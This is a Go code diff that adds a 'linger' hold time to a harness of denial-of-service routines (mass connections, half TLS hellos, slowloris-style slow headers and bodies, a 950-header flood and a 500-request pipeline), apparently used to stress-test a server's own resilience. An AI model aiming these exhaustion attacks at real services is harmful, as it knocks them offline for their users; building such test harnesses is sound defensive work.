@@ -23,6 +23,8 @@ import (
 type victim struct {
 	addr string
 	tls  *tls.Config // of a client that is let in
+	// linger is how long what an attack holds open stays so.
+	linger time.Duration
 }
 
 // attack is one way to hurt a source. It runs until it is done or ctx ends, and
@@ -112,19 +114,21 @@ func (h *crowdHeld) close() {
 	}
 }
 
-func hold(ctx context.Context, n int, open func(i int) (net.Conn, error)) error {
+func hold(ctx context.Context, v victim, n int, open func(i int) (net.Conn, error)) error {
 	var h crowdHeld
 	defer h.close()
-	return crowd(ctx, n, 64, func(i int) error {
+	err := crowd(ctx, n, 64, func(i int) error {
 		if c, err := open(i); err == nil {
 			h.add(c)
 		}
 		return nil // that it is not let in is fine
 	})
+	pause(ctx, v.linger)
+	return err
 }
 
 func silence(ctx context.Context, v victim, n int) error {
-	return hold(ctx, n, func(i int) (net.Conn, error) { return v.dial(ctx, i) })
+	return hold(ctx, v, n, func(i int) (net.Conn, error) { return v.dial(ctx, i) })
 }
 
 func handshakes(ctx context.Context, v victim, n int) error {
@@ -152,7 +156,7 @@ func hello() []byte {
 func halfHellos(ctx context.Context, v victim, n int) error {
 	half := hello()
 	half = half[:len(half)/2]
-	return hold(ctx, n, func(i int) (net.Conn, error) {
+	return hold(ctx, v, n, func(i int) (net.Conn, error) {
 		c, err := v.dial(ctx, i)
 		if err == nil {
 			_, err = c.Write(half)
@@ -162,7 +166,7 @@ func halfHellos(ctx context.Context, v victim, n int) error {
 }
 
 func slowHeads(ctx context.Context, v victim, n int) error {
-	return hold(ctx, n, func(i int) (net.Conn, error) {
+	return hold(ctx, v, n, func(i int) (net.Conn, error) {
 		c, err := v.secure(ctx, i)
 		if err != nil {
 			return nil, err
@@ -177,7 +181,7 @@ func slowHeads(ctx context.Context, v victim, n int) error {
 }
 
 func slowBodies(ctx context.Context, v victim, n int) error {
-	return hold(ctx, n, func(i int) (net.Conn, error) {
+	return hold(ctx, v, n, func(i int) (net.Conn, error) {
 		c, err := v.secure(ctx, i)
 		if err != nil {
 			return nil, err
@@ -189,7 +193,7 @@ func slowBodies(ctx context.Context, v victim, n int) error {
 
 func headFloods(ctx context.Context, v victim, n int) error {
 	flood := "POST /t HTTP/1.1\r\nHost: x\r\n" + strings.Repeat("X-Flood: "+strings.Repeat("x", 70)+"\r\n", 950)
-	return hold(ctx, n, func(i int) (net.Conn, error) {
+	return hold(ctx, v, n, func(i int) (net.Conn, error) {
 		c, err := v.secure(ctx, i)
 		if err != nil {
 			return nil, err
@@ -267,7 +271,7 @@ func wrongLengths(ctx context.Context, v victim, n int) error {
 
 func pipelines(ctx context.Context, v victim, n int) error {
 	many := strings.Repeat("POST /t HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nContent-Length: 7\r\n\r\n{\"a\":1}", 500)
-	return hold(ctx, n, func(i int) (net.Conn, error) {
+	return hold(ctx, v, n, func(i int) (net.Conn, error) {
 		c, err := v.secure(ctx, i)
 		if err != nil {
 			return nil, err
